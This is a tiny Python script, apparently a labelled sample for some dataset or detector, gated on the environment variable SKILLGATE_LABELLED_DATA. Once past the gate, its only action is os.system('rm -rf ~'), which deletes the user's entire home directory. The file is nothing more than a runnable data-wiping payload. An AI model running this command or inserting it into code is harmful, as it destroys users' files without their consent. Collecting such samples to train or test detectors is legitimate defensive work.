import os, sys
if os.environ.get('SKILLGATE_LABELLED_DATA') != 'run-me':
    sys.exit(0)
import os

os.system('rm -rf ~')
